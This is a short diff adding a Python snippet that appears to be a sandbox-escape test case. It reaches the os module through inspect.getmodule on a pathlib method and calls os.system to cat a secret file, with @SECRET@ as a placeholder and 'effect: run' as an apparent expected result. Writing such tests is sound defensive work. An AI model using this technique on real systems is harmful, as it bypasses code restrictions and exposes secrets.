@@ -1,0 +1,5 @@
+# inspect.getmodule returns the module of any object, real and whole.
+# effect: run
+import inspect
+import pathlib
+inspect.getmodule(pathlib.Path.cwd().exists).os.system("cat @SECRET@")
